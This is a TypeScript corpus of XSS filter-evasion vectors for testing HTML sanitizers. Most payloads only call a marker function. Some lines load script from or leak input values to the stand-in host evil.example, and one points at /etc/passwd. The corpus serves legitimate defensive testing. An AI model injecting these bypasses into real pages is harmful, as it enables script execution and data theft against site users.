/**
 * The XSS corpus: markup that has got past HTML sanitizers or URL checks somewhere, drawn from
 * the OWASP XSS filter evasion cheat sheet, PortSwigger's XSS cheat sheet and DOMPurify's own
 * test vectors and published bypasses. Every payload that could run calls `__xss()` (or
 * `top.__xss()` from inside a frame), so a test that defines that function knows if anything ran.
 *
 * Each vector is complete markup (raw-text elements are closed), so the legitimate text that a
 * test puts after it must still be shown. Plain data: the Node build tests use it too.
 */

export type XssKind =
  | 'script'
  | 'event-handler'
  | 'url-scheme'
  | 'svg'
  | 'mathml'
  | 'mutation'
  | 'dom-clobbering'
  | 'css-overlay'
  | 'frame-meta-base'
  | 'markdown';

export interface XssVector {
  /** Unique, plain words and dashes: tests write it into the text around the vector. */
  name: string;
  markup: string;
  kind: XssKind;
  /** For URL vectors: the hostile URL alone, for fields that take a URL (`applyUrl`, `contact`). */
  url?: string;
  /**
   * True when HTML parsing itself puts what follows the vector inside an element the policy
   * drops with its content (the vector leaves foreign content open), so only the text before
   * it can be expected.
   */
  swallowsFollowing?: boolean;
}

const RUN = '__xss()';
const FRAME_SCRIPT = '<script>top.__xss()</script>';
const B64_RUN = btoa(RUN);
const B64_FRAME_SCRIPT = btoa(FRAME_SCRIPT);
const B64_SVG = btoa(`<svg xmlns="http://www.w3.org/2000/svg" onload="top.__xss()"/>`);

const decimal = (text: string, pad = 0, semicolon = true) =>
  [...text].map((c) => `&#${String(c.charCodeAt(0)).padStart(pad, '0')}${semicolon ? ';' : ''}`).join('');
const hex = (text: string, semicolon = true, upper = false) =>
  [...text].map((c) => `&#${upper ? 'X' : 'x'}${c.charCodeAt(0).toString(16).toUpperCase()}${semicolon ? ';' : ''}`).join('');

/** `javascript:` and its relatives in every spelling browsers have been known to accept. */
const URL_SPELLINGS: Array<[name: string, url: string]> = [
  ['plain', `javascript:${RUN}`],
  ['mixed-case', `JaVaScRiPt:${RUN}`],
  ['upper-case', `JAVASCRIPT:${RUN}`],
  ['leading-space', ` javascript:${RUN}`],
  ['leading-tab', `\tjavascript:${RUN}`],
  ['inner-tab', `java\tscript:${RUN}`],
  ['inner-newline', `java\nscript:${RUN}`],
  ['inner-carriage-return', `java\rscript:${RUN}`],
  ['inner-nul', `java\u0000script:${RUN}`],
  ['leading-control-u0001', `\u0001javascript:${RUN}`],
  ['leading-form-feed', `\u000cjavascript:${RUN}`],
  ['decimal-entities', `${decimal('javascript:')}${RUN}`],
  ['decimal-entities-leading-zeros-no-semicolon', `${decimal('javascript:', 7, false)}${RUN}`],
  ['hex-entities', `${hex('javascript:')}${RUN}`],
  ['hex-entities-no-semicolon', `${hex('javascript:', false)}${RUN}`],
  ['hex-entities-upper-x', `${hex('javascript:', true, true)}${RUN}`],
  ['partial-decimal-entity', `javas&#99;ript:${RUN}`],
  ['entity-colon', `javascript&colon;${RUN}`],
  ['decimal-entity-colon', `javascript&#58;${RUN}`],
  ['hex-entity-colon-leading-zeros', `javascript&#x00003A;${RUN}`],
  ['entity-tab', `java&Tab;script:${RUN}`],
  ['entity-newline', `java&NewLine;script:${RUN}`],
  ['hex-entity-tab', `jav&#x09;ascript:${RUN}`],
  ['hex-entity-newline', `jav&#x0A;ascript:${RUN}`],
  ['hex-entity-carriage-return', `jav&#x0D;ascript:${RUN}`],
  ['decimal-entity-tab-leading-zeros', `java&#0000009script:${RUN}`],
  ['leading-entity-14', `&#14;javascript:${RUN}`],
  ['leading-entity-space', `&#x20;javascript:${RUN}`],
  ['double-encoded-entity', `&amp;#106;avascript:${RUN}`],
  ['percent-encoded-body', 'javascript:%5F%5Fxss%28%29'],
  ['comment-then-newline', 'javascript://%0a__xss()'],
  ['percent-encoded-scheme', `%6A%61%76%61%73%63%72%69%70%74:${RUN}`],
  ['vbscript', 'vbscript:__xss()'],
  ['vbscript-upper', 'VBSCRIPT:__xss()'],
  ['livescript', `livescript:${RUN}`],
  ['mocha', `mocha:${RUN}`],
  ['data-html', `data:text/html,${FRAME_SCRIPT}`],
  ['data-html-upper', `DATA:TEXT/HTML,${FRAME_SCRIPT}`],
  ['data-html-base64', `data:text/html;base64,${B64_FRAME_SCRIPT}`],
  ['data-svg-base64', `data:image/svg+xml;base64,${B64_SVG}`],
  ['data-javascript', `data:text/javascript,${RUN}`],
  ['file-scheme', 'file:///etc/passwd'],
  ['blob-scheme', 'blob:https://evil.example/0b5cad'],
  ['backslash-host', '\\\\evil.example\\x'],
];

const attributeValue = (url: string) => url.replace(/"/g, '&quot;');

const urlVectors: XssVector[] = [
  ...URL_SPELLINGS.map(([name, url]): XssVector => ({
    name: `a-href-${name}`,
    markup: `<a href="${attributeValue(url)}">link ${name}</a>`,
    kind: 'url-scheme',
    url,
  })),
  ...URL_SPELLINGS.filter((_, i) => i % 4 === 0).map(([name, url]): XssVector => ({
    name: `img-src-${name}`,
    markup: `<img src="${attributeValue(url)}" alt="image ${name}">`,
    kind: 'url-scheme',
    url,
  })),
  { name: 'a-href-unquoted', markup: `<a href=javascript:${RUN}>unquoted</a>`, kind: 'url-scheme' },
  { name: 'a-href-single-quoted', markup: `<a href='javascript:${RUN}'>single</a>`, kind: 'url-scheme' },
  { name: 'a-href-backtick', markup: '<a href=`javascript:__xss()`>backtick</a>', kind: 'url-scheme' },
  { name: 'a-slash-separator', markup: `<a/href="javascript&colon;${RUN}">slash</a>`, kind: 'url-scheme' },
  { name: 'a-duplicate-href', markup: `<a href="https://ok.example/" href="javascript:${RUN}">dup</a>`, kind: 'url-scheme' },
  { name: 'a-javascript-first-duplicate', markup: `<a href="javascript:${RUN}" href="https://ok.example/">dup2</a>`, kind: 'url-scheme' },
  { name: 'area-href', markup: `<map name=m><area shape=rect coords=0,0,10,10 href="javascript:${RUN}"></map>`, kind: 'url-scheme' },
  { name: 'input-image-src', markup: `<input type=image src="javascript:${RUN}">`, kind: 'url-scheme' },
  { name: 'video-poster', markup: `<video poster="javascript:${RUN}"></video>`, kind: 'url-scheme' },
  { name: 'table-background', markup: `<table background="javascript:${RUN}"><tr><td>cell</td></tr></table>`, kind: 'url-scheme' },
  { name: 'img-dynsrc', markup: `<img dynsrc="javascript:${RUN}" lowsrc="javascript:${RUN}">`, kind: 'url-scheme' },
  { name: 'img-srcset', markup: `<img src="https://ok.example/a.png" srcset="javascript:${RUN} 1x">`, kind: 'url-scheme' },
  { name: 'a-ping', markup: `<a href="https://ok.example/" ping="javascript:${RUN}">ping</a>`, kind: 'url-scheme' },
  { name: 'blockquote-cite', markup: `<blockquote cite="javascript:${RUN}">cite</blockquote>`, kind: 'url-scheme' },
  { name: 'bgsound-src', markup: `<bgsound src="javascript:${RUN}">`, kind: 'url-scheme' },
];

const scriptVectors: XssVector[] = [
  { name: 'script-plain', markup: `<script>${RUN}</script>`, kind: 'script' },
  { name: 'script-upper', markup: `<SCRIPT>${RUN}</SCRIPT>`, kind: 'script' },
  { name: 'script-src-data', markup: `<script src="data:,${RUN}"></script>`, kind: 'script' },
  { name: 'script-src-remote', markup: '<SCRIPT SRC=//evil.example/xss.js></SCRIPT>', kind: 'script' },
  { name: 'script-slash-attribute', markup: `<script/xss src="data:,${RUN}"></script>`, kind: 'script' },
  { name: 'script-module', markup: `<script type=module>${RUN}</script>`, kind: 'script' },
  { name: 'script-cdata', markup: `<script>/*<![CDATA[*/${RUN}/*]]>*/</script>`, kind: 'script' },
  { name: 'script-split-tag', markup: `<scr<script>ipt>${RUN}</scr</script>ipt>`, kind: 'script' },
  { name: 'script-double-open', markup: `<<script>${RUN}//<</script>`, kind: 'script' },
  { name: 'script-after-quote-break', markup: `"><script>${RUN}</script>`, kind: 'script' },
  { name: 'script-after-single-quote-break', markup: `'><script>${RUN}</script>`, kind: 'script' },
  { name: 'script-after-title-close', markup: `</title><script>${RUN}</script>`, kind: 'script' },
  { name: 'script-after-textarea-close', markup: `</textarea><script>${RUN}</script>`, kind: 'script' },
  { name: 'script-after-comment-close', markup: `--><script>${RUN}</script>`, kind: 'script' },
  { name: 'script-conditional-comment', markup: `<!--[if gte IE 4]><script>${RUN}</script><![endif]-->`, kind: 'script' },
  { name: 'script-in-div', markup: `<div><script>${RUN}</script></div>`, kind: 'script' },
  { name: 'script-in-table', markup: `<table><tr><td><script>${RUN}</script></td></tr></table>`, kind: 'script' },
  { name: 'script-for-event', markup: `<script for=document event=onreadystatechange>${RUN}</script>`, kind: 'script' },
  { name: 'script-end-tag-space', markup: `<script>${RUN}</script >`, kind: 'script' },
  { name: 'script-malformed-img-quotes', markup: `<IMG """><SCRIPT>${RUN}</SCRIPT>">`, kind: 'script' },
];

const eventVectors: XssVector[] = [
  { name: 'img-onerror', markup: `<img src=x onerror=${RUN}>`, kind: 'event-handler' },
  { name: 'img-onerror-upper', markup: `<IMG SRC=x ONERROR="${RUN}">`, kind: 'event-handler' },
  { name: 'img-onerror-mixed-case', markup: `<img src=x OnErRoR=${RUN}>`, kind: 'event-handler' },
  { name: 'img-onload-valid-src', markup: `<img src="https://ok.example/a.png" onload="${RUN}">`, kind: 'event-handler' },
  { name: 'img-onerror-entities', markup: `<img src=x onerror="${decimal(RUN)}">`, kind: 'event-handler' },
  { name: 'img-slash-separators', markup: `<img/src=x/onerror=${RUN}>`, kind: 'event-handler' },
  { name: 'img-newline-before-equals', markup: `<img src=x onerror\n=${RUN}>`, kind: 'event-handler' },
  { name: 'img-onerror-eval-base64', markup: `<img src=x onerror="eval(atob('${B64_RUN}'))">`, kind: 'event-handler' },
  { name: 'img-onerror-tagged-template', markup: '<img src=x onerror=__xss``>', kind: 'event-handler' },
  { name: 'image-alias-onerror', markup: `<image src=x onerror=${RUN}>`, kind: 'event-handler' },
  { name: 'svg-onload', markup: `<svg onload=${RUN}></svg>`, kind: 'event-handler' },
  { name: 'svg-slash-onload', markup: `<svg/onload=${RUN}></svg>`, kind: 'event-handler' },
  { name: 'body-onload', markup: `<body onload=${RUN}>`, kind: 'event-handler' },
  { name: 'body-onpageshow', markup: `<body onpageshow=${RUN}>`, kind: 'event-handler' },
  { name: 'iframe-onload', markup: `<iframe onload=${RUN}></iframe>`, kind: 'event-handler' },
  { name: 'video-onerror', markup: `<video src=x onerror=${RUN}></video>`, kind: 'event-handler' },
  { name: 'video-source-onerror', markup: `<video><source onerror=${RUN}></video>`, kind: 'event-handler' },
  { name: 'audio-onerror', markup: `<audio src=x onerror=${RUN}></audio>`, kind: 'event-handler' },
  { name: 'audio-autoplay-onplay', markup: `<audio autoplay controls onplay=${RUN} src="https://ok.example/a.mp3"></audio>`, kind: 'event-handler' },
  { name: 'details-ontoggle', markup: `<details open ontoggle=${RUN}><summary>more</summary>inside</details>`, kind: 'event-handler' },
  { name: 'summary-onclick', markup: `<details><summary onclick=${RUN}>open me</summary>x</details>`, kind: 'event-handler' },
  { name: 'input-autofocus-onfocus', markup: `<input autofocus onfocus=${RUN}>`, kind: 'event-handler' },
  { name: 'input-checkbox-onfocus', markup: `<input type=checkbox autofocus onfocus=${RUN}>`, kind: 'event-handler' },
  { name: 'input-onblur-race', markup: `<input onblur=${RUN} autofocus><input autofocus>`, kind: 'event-handler' },
  { name: 'select-autofocus-onfocus', markup: `<select autofocus onfocus=${RUN}><option>a</option></select>`, kind: 'event-handler' },
  { name: 'textarea-autofocus-onfocus', markup: `<textarea autofocus onfocus=${RUN}>t</textarea>`, kind: 'event-handler' },
  { name: 'keygen-autofocus-onfocus', markup: `<keygen autofocus onfocus=${RUN}>`, kind: 'event-handler' },
  { name: 'marquee-onstart', markup: `<marquee onstart=${RUN}>marquee</marquee>`, kind: 'event-handler' },
  { name: 'object-onerror', markup: `<object data=x onerror=${RUN}></object>`, kind: 'event-handler' },
  { name: 'embed-onload', markup: `<embed src="https://ok.example/x.swf" onload=${RUN}>`, kind: 'event-handler' },
  { name: 'form-onsubmit', markup: `<form onsubmit=${RUN}><button>send</button></form>`, kind: 'event-handler' },
  { name: 'button-formaction', markup: `<form><button formaction="javascript:${RUN}">go</button></form>`, kind: 'event-handler' },
  { name: 'form-action-submit', markup: `<form action="javascript:${RUN}"><input type=submit value=go></form>`, kind: 'event-handler' },
  { name: 'button-form-attribute', markup: `<form id=f1></form><button form=f1 formaction="javascript:${RUN}">go</button>`, kind: 'event-handler' },
  { name: 'isindex-action', markup: `<isindex type=image src=1 onerror=${RUN}>`, kind: 'event-handler' },
  { name: 'a-onmouseover', markup: `<a onmouseover=${RUN}>hover</a>`, kind: 'event-handler' },
  { name: 'a-onclick', markup: `<a href="#" onclick="${RUN}">click</a>`, kind: 'event-handler' },
  { name: 'a-onfocus-autofocus', markup: `<a href="https://ok.example/" autofocus onfocus=${RUN}>focus</a>`, kind: 'event-handler' },
  { name: 'style-onload', markup: `<style onload=${RUN}></style>`, kind: 'event-handler' },
  { name: 'link-onload', markup: `<link rel=stylesheet href="https://ok.example/a.css" onload=${RUN} onerror=${RUN}>`, kind: 'event-handler' },
  { name: 'div-onpointerover', markup: `<div onpointerover=${RUN}>pointer</div>`, kind: 'event-handler' },
  { name: 'p-onmouseenter', markup: `<p onmouseenter=${RUN}>enter</p>`, kind: 'event-handler' },
  { name: 'span-onanimationstart', markup: `<span style="animation:spin 1s" onanimationstart=${RUN}>anim</span>`, kind: 'event-handler' },
  { name: 'b-ontransitionend', markup: `<b style="transition:color 1ms" ontransitionend=${RUN}>trans</b>`, kind: 'event-handler' },
  { name: 'custom-element-onfocus-tabindex', markup: `<xss autofocus tabindex=1 onfocus=${RUN}>custom</xss>`, kind: 'event-handler' },
  { name: 'contenteditable-onblur', markup: `<div contenteditable autofocus onblur=${RUN}>edit</div>`, kind: 'event-handler' },
  { name: 'strong-onbeforeinput', markup: `<strong contenteditable onbeforeinput=${RUN}>strong</strong>`, kind: 'event-handler' },
  { name: 'table-onpointerenter', markup: `<table onpointerenter=${RUN}><tr><td>t</td></tr></table>`, kind: 'event-handler' },
  { name: 'frameset-onload', markup: `<frameset onload=${RUN}></frameset>`, kind: 'event-handler' },
  { name: 'img-duplicate-onerror', markup: `<img src=x onerror=${RUN} onerror=${RUN}>`, kind: 'event-handler' },
  { name: 'img-onerror-javascript-label', markup: `<img src=x onerror="javascript:${RUN}">`, kind: 'event-handler' },
  { name: 'ol-onscroll', markup: `<ol style="overflow:auto;height:1em" onscroll=${RUN}><li>a</li><li>b</li></ol>`, kind: 'event-handler' },
];

const svgVectors: XssVector[] = [
  { name: 'svg-a-xlink-href', markup: `<svg><a xlink:href="javascript:${RUN}"><text x=20 y=20>svg link</text></a></svg>`, kind: 'svg' },
  { name: 'svg-a-href', markup: `<svg><a href="javascript:${RUN}"><circle r=10></circle></a></svg>`, kind: 'svg' },
  { name: 'svg-animate-href', markup: `<svg><a><animate attributeName=href values="javascript:${RUN}"></animate><text x=20 y=20>anim</text></a></svg>`, kind: 'svg' },
  { name: 'svg-set-href', markup: `<svg><a><set attributeName=href to="javascript:${RUN}"></set><text x=20 y=20>set</text></a></svg>`, kind: 'svg' },
  { name: 'svg-animate-xlink-target', markup: `<svg><animate xlink:href=#t attributeName=href values="javascript:${RUN}"></animate><a id=t><text x=20 y=20>t</text></a></svg>`, kind: 'svg' },
  { name: 'svg-animate-onbegin', markup: `<svg><animate onbegin=${RUN} attributeName=x dur=1s></animate></svg>`, kind: 'svg' },
  { name: 'svg-set-onbegin', markup: `<svg><set onbegin=${RUN} attributeName=x to=1></set></svg>`, kind: 'svg' },
  { name: 'svg-discard-onbegin', markup: `<svg><discard onbegin=${RUN}></discard></svg>`, kind: 'svg' },
  { name: 'svg-use-data-url', markup: `<svg><use href="data:image/svg+xml;base64,${B64_SVG}#x"></use></svg>`, kind: 'svg' },
  { name: 'svg-use-xlink-data-url', markup: `<svg><use xlink:href="data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;&lt;image href='1' onerror='top.__xss()'/&gt;&lt;/svg&gt;#x"></use></svg>`, kind: 'svg' },
  { name: 'svg-image-onerror', markup: `<svg><image href=x onerror=${RUN}></image></svg>`, kind: 'svg' },
  { name: 'svg-foreignobject-img', markup: `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`, kind: 'svg' },
  { name: 'svg-foreignobject-iframe', markup: `<svg><foreignObject><iframe srcdoc="${FRAME_SCRIPT.replace(/</g, '&lt;')}"></iframe></foreignObject></svg>`, kind: 'svg' },
  { name: 'svg-script', markup: `<svg><script>${RUN}</script></svg>`, kind: 'svg' },
  { name: 'svg-script-href', markup: `<svg><script href="data:,${RUN}"></script></svg>`, kind: 'svg' },
  { name: 'svg-script-xlink-href', markup: `<svg><script xlink:href="data:,${RUN}"></script></svg>`, kind: 'svg' },
  { name: 'svg-handler-element', markup: `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${RUN}</handler></svg>`, kind: 'svg' },
  { name: 'svg-style-import', markup: `<svg><style>@import url("javascript:${RUN}");</style></svg>`, kind: 'svg' },
  { name: 'svg-feimage-href', markup: `<svg><filter><feImage href="javascript:${RUN}"></feImage></filter></svg>`, kind: 'svg' },
  { name: 'svg-title-img-breakout', markup: `<svg><title><img src=x onerror=${RUN}></title></svg>`, kind: 'svg' },
  { name: 'svg-desc-img-breakout', markup: `<svg><desc><img src=x onerror=${RUN}></desc></svg>`, kind: 'svg' },
  { name: 'svg-animate-onload-attribute', markup: `<svg><animate attributeName=onload to="${RUN}"></animate></svg>`, kind: 'svg' },
];

const mathmlVectors: XssVector[] = [
  { name: 'math-href', markup: `<math href="javascript:${RUN}">math link</math>`, kind: 'mathml' },
  { name: 'math-maction-xlink', markup: `<math><maction actiontype="statusline#" xlink:href="javascript:${RUN}">maction</maction></math>`, kind: 'mathml' },
  { name: 'math-mi-xlink-data', markup: `<math><mi xlink:href="data:x,${FRAME_SCRIPT}">mi</mi></math>`, kind: 'mathml' },
  { name: 'math-mtext-table-mglyph-style', markup: `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}></style></mglyph></table></mtext></math>`, kind: 'mathml' },
  { name: 'math-mglyph-style-comment', markup: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=${RUN}&gt;"></style></mglyph></table></mtext></math>`, kind: 'mathml' },
  { name: 'math-mglyph-svg-mtext-style', markup: `<math><mtext><mglyph><svg><mtext><style><path id="</style><img onerror=${RUN} src>"></style></mtext></svg></mglyph></mtext></math>`, kind: 'mathml' },
  { name: 'math-malignmark-style', markup: `<math><mtext><malignmark><style><img src=x onerror=${RUN}></style></malignmark></mtext></math>`, kind: 'mathml' },
  { name: 'math-annotation-xml-img', markup: `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`, kind: 'mathml' },
  { name: 'math-annotation-xml-style', markup: `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${RUN}></style></annotation-xml></math>`, kind: 'mathml' },
  { name: 'math-a-xlink', markup: `<math><a xlink:href="javascript:${RUN}">math a</a></math>`, kind: 'mathml' },
  { name: 'math-mi-svg-style', markup: `<math><mi><svg><style><img src=x onerror=${RUN}></style></svg></mi></math>`, kind: 'mathml' },
  { name: 'math-h1-mglyph-svg', markup: `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=${RUN}>"></style></mtext></svg></mglyph></h1></mtext></math>`, kind: 'mathml' },
];

const mutationVectors: XssVector[] = [
  { name: 'noscript-title-breakout', markup: `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></p></noscript>`, kind: 'mutation' },
  { name: 'noscript-style-breakout', markup: `<noscript><style></noscript><img src=x onerror=${RUN}></style></noscript>`, kind: 'mutation' },
  { name: 'noscript-img', markup: `<noscript><img src=x onerror=${RUN}></noscript>`, kind: 'mutation' },
  { name: 'template-img', markup: `<template><img src=x onerror=${RUN}></template>`, kind: 'mutation' },
  { name: 'template-script', markup: `<template><script>${RUN}</script></template>`, kind: 'mutation' },
  { name: 'textarea-img', markup: `<textarea><img src=x onerror=${RUN}></textarea>`, kind: 'mutation' },
  { name: 'textarea-title-breakout', markup: `<textarea><p title="</textarea><img src=x onerror=${RUN}>"></textarea>`, kind: 'mutation' },
  { name: 'title-img', markup: `<title><img src=x onerror=${RUN}></title>`, kind: 'mutation' },
  { name: 'style-img', markup: `<style><img src=x onerror=${RUN}></style>`, kind: 'mutation' },
  { name: 'xmp-img', markup: `<xmp><img src=x onerror=${RUN}></xmp>`, kind: 'mutation' },
  { name: 'noembed-img', markup: `<noembed><img src=x onerror=${RUN}></noembed>`, kind: 'mutation' },
  { name: 'noframes-img', markup: `<noframes><img src=x onerror=${RUN}></noframes>`, kind: 'mutation' },
  { name: 'iframe-raw-text-img', markup: `<iframe><img src=x onerror=${RUN}></iframe>`, kind: 'mutation' },
  { name: 'svg-p-style', markup: `<svg><p><style><img src=x onerror=${RUN}></style></p></svg>`, kind: 'mutation' },
  { name: 'svg-close-p-style-attribute', markup: `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>"></style></svg>`, kind: 'mutation' },
  { name: 'svg-style-img', markup: `<svg><style><img src=x onerror=${RUN}></style></svg>`, kind: 'mutation' },
  { name: 'svg-cdata-img', markup: `<svg><![CDATA[><img src=x onerror=${RUN}>]]></svg>`, kind: 'mutation' },
  { name: 'svg-desc-template', markup: `<svg><desc><template><img src=x onerror=${RUN}></template></desc></svg>`, kind: 'mutation' },
  { name: 'form-math-reparent', markup: `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`, kind: 'mutation', swallowsFollowing: true },
  { name: 'table-caption-svg-style', markup: `<table><caption><svg><style><img src=x onerror=${RUN}></style></svg></caption></table>`, kind: 'mutation' },
  { name: 'table-foster-parent-img', markup: `<table><img src=x onerror=${RUN}><tr><td>cell</td></tr></table>`, kind: 'mutation' },
  { name: 'listing-encoded-img', markup: `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`, kind: 'mutation' },
  { name: 'comment-short-close', markup: `<!--><img src=x onerror=${RUN}>-->`, kind: 'mutation' },
  { name: 'comment-in-attribute', markup: `<!--<img src="--><img src=x onerror=${RUN}//">`, kind: 'mutation' },
  { name: 'attribute-closes-div', markup: `<div id="1"><a title="</div><img src=x onerror=${RUN}>">a</a></div>`, kind: 'mutation' },
  { name: 'select-template-img', markup: `<select><template><img src=x onerror=${RUN}></template></select>`, kind: 'mutation' },
  { name: 'processing-instruction', markup: `<?xml-stylesheet ><img src=x onerror=${RUN}?>`, kind: 'mutation' },
];

const clobberingVectors: XssVector[] = [
  { name: 'img-name-getelementbyid', markup: '<img name=getElementById src="https://ok.example/a.png">', kind: 'dom-clobbering' },
  { name: 'form-name-body', markup: '<form name=body><input name=attributes></form>', kind: 'dom-clobbering' },
  { name: 'img-name-cookie', markup: '<img name=cookie src="https://ok.example/a.png">', kind: 'dom-clobbering' },
  { name: 'a-id-xss-flag', markup: '<a id=__xss href="https://ok.example/">flag</a>', kind: 'dom-clobbering' },
  { name: 'a-id-defaultview', markup: '<a id=defaultView href="https://ok.example/">dv</a>', kind: 'dom-clobbering' },
  { name: 'img-name-documentelement', markup: '<img name=documentElement src="https://ok.example/a.png">', kind: 'dom-clobbering' },
  { name: 'form-id-location', markup: '<form id=location></form>', kind: 'dom-clobbering' },
  { name: 'iframe-name-top', markup: '<iframe name=top></iframe>', kind: 'dom-clobbering' },
  { name: 'a-collection-clobber', markup: `<a id=CONFIG></a><a id=CONFIG name=url href="javascript:${RUN}">c</a>`, kind: 'dom-clobbering' },
  { name: 'form-input-parentnode', markup: '<form><input name=parentNode><input name=nodeName></form>', kind: 'dom-clobbering' },
  { name: 'img-name-createelement', markup: '<img name=createElement src="https://ok.example/a.png">', kind: 'dom-clobbering' },
  { name: 'embed-name-queryselector', markup: '<embed name=querySelector>', kind: 'dom-clobbering' },
  { name: 'object-id-alert', markup: '<object id=alert></object>', kind: 'dom-clobbering' },
  { name: 'span-id-proto', markup: '<span id=__proto__>proto</span>', kind: 'dom-clobbering' },
  { name: 'p-id-job-list', markup: '<p id=job-list name=jobs>named</p>', kind: 'dom-clobbering' },
];

const cssVectors: XssVector[] = [
  { name: 'div-fixed-overlay', markup: '<div style="position:fixed;inset:0;z-index:2147483647;background:red">overlay</div>', kind: 'css-overlay' },
  { name: 'a-transparent-clickjack', markup: '<a href="https://evil.example/" style="position:fixed;top:0;left:0;width:100%;height:100%;opacity:0">clickjack</a>', kind: 'css-overlay' },
  { name: 'img-fullscreen', markup: '<img src="https://ok.example/a.png" style="position:fixed;inset:0;width:100vw;height:100vh">', kind: 'css-overlay' },
  { name: 'p-background-javascript', markup: `<p style="background:url(javascript:${RUN})">bg</p>`, kind: 'css-overlay' },
  { name: 'div-expression', markup: `<div style="width:expression(${RUN})">expr</div>`, kind: 'css-overlay' },
  { name: 'p-split-expression', markup: `<p STYLE="xss:expr/*XSS*/ession(${RUN})">split</p>`, kind: 'css-overlay' },
  { name: 'div-behavior-binding', markup: '<div style="behavior:url(https://evil.example/x.htc);-moz-binding:url(https://evil.example/x.xml#x)">b</div>', kind: 'css-overlay' },
  { name: 'p-entity-position', markup: '<p style="&#x70;osition:fixed;inset:0">entity</p>', kind: 'css-overlay' },
  { name: 'div-background-control-char', markup: `<div style="background-image:url(&#1;javascript:${RUN})">ctl</div>`, kind: 'css-overlay' },
  { name: 'style-hide-everything', markup: '<style>*{display:none!important}</style>', kind: 'css-overlay' },
  { name: 'style-import', markup: "<style>@import 'https://evil.example/x.css';</style>", kind: 'css-overlay' },
  { name: 'style-background-javascript', markup: `<style>body{background:url("javascript:${RUN}")}</style>`, kind: 'css-overlay' },
  { name: 'style-host-overlay', markup: '<style>:host{position:fixed;inset:0;z-index:2147483647}</style>', kind: 'css-overlay' },
  { name: 'style-attribute-selector-leak', markup: '<style>input[value^="a"]{background:url(https://evil.example/a)}</style>', kind: 'css-overlay' },
  { name: 'link-stylesheet', markup: '<link rel=stylesheet href="https://evil.example/x.css">', kind: 'css-overlay' },
  { name: 'link-stylesheet-data', markup: '<link rel=stylesheet href="data:text/css,*{display:none}">', kind: 'css-overlay' },
  { name: 'span-huge-font', markup: '<span style="font-size:999px;line-height:999px">huge</span>', kind: 'css-overlay' },
  { name: 'table-fixed', markup: '<table style="position:fixed;top:0"><tr><td style="height:100vh">t</td></tr></table>', kind: 'css-overlay' },
  { name: 'class-attribute', markup: '<p class="root detail heading">class</p>', kind: 'css-overlay' },
  { name: 'part-attribute', markup: '<p part="apply heading">part</p>', kind: 'css-overlay' },
];

const frameVectors: XssVector[] = [
  { name: 'iframe-srcdoc-script', markup: `<iframe srcdoc="&lt;script&gt;top.__xss()&lt;/script&gt;"></iframe>`, kind: 'frame-meta-base' },
  { name: 'iframe-srcdoc-img', markup: `<iframe srcdoc="&lt;img src=x onerror=top.__xss()&gt;"></iframe>`, kind: 'frame-meta-base' },
  { name: 'p-srcdoc', markup: `<p srcdoc="&lt;script&gt;top.__xss()&lt;/script&gt;">srcdoc on p</p>`, kind: 'frame-meta-base' },
  { name: 'iframe-src-javascript', markup: `<iframe src="javascript:top.__xss()"></iframe>`, kind: 'frame-meta-base' },
  { name: 'iframe-src-data', markup: `<iframe src="data:text/html;base64,${B64_FRAME_SCRIPT}"></iframe>`, kind: 'frame-meta-base' },
  { name: 'frame-src-javascript', markup: `<frameset><frame src="javascript:top.__xss()"></frameset>`, kind: 'frame-meta-base' },
  { name: 'object-data-javascript', markup: `<object data="javascript:top.__xss()"></object>`, kind: 'frame-meta-base' },
  { name: 'object-data-html', markup: `<object data="data:text/html,${FRAME_SCRIPT.replace(/</g, '&lt;')}"></object>`, kind: 'frame-meta-base' },
  { name: 'embed-src-javascript', markup: `<embed src="javascript:top.__xss()">`, kind: 'frame-meta-base' },
  { name: 'embed-src-svg-data', markup: `<embed src="data:image/svg+xml;base64,${B64_SVG}" type="image/svg+xml">`, kind: 'frame-meta-base' },
  { name: 'meta-refresh-javascript', markup: `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`, kind: 'frame-meta-base' },
  { name: 'meta-refresh-data', markup: `<meta http-equiv="refresh" content="0; url=data:text/html;base64,${B64_FRAME_SCRIPT}">`, kind: 'frame-meta-base' },
  { name: 'meta-refresh-away', markup: '<meta http-equiv="refresh" content="0;url=https://evil.example/">', kind: 'frame-meta-base' },
  { name: 'meta-set-cookie', markup: '<meta http-equiv="set-cookie" content="session=stolen">', kind: 'frame-meta-base' },
  { name: 'meta-csp-override', markup: `<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'">`, kind: 'frame-meta-base' },
  { name: 'base-href-javascript', markup: `<base href="javascript:${RUN}//">`, kind: 'frame-meta-base' },
  { name: 'base-href-evil', markup: '<base href="https://evil.example/">', kind: 'frame-meta-base' },
  { name: 'base-target', markup: '<base target="_blank">', kind: 'frame-meta-base' },
  { name: 'portal-src', markup: '<portal src="https://evil.example/"></portal>', kind: 'frame-meta-base' },
  { name: 'applet-code', markup: `<applet code="javascript:${RUN}"></applet>`, kind: 'frame-meta-base' },
];

const markdownVectors: XssVector[] = [
  { name: 'md-link-javascript', markup: `[md link](javascript:${RUN})`, kind: 'markdown' },
  { name: 'md-link-mixed-case', markup: `[md case](JaVaScRiPt:${RUN})`, kind: 'markdown' },
  { name: 'md-link-entity', markup: `[md entity](&#106;avascript:${RUN})`, kind: 'markdown' },
  { name: 'md-link-angle-brackets', markup: `[md angle](<javascript:${RUN}>)`, kind: 'markdown' },
  { name: 'md-image-javascript', markup: `![md image](javascript:${RUN})`, kind: 'markdown' },
  { name: 'md-reference-link', markup: `[md ref][r]\n\n[r]: javascript:${RUN}`, kind: 'markdown' },
  { name: 'md-autolink-javascript', markup: `<javascript:${RUN}>`, kind: 'markdown' },
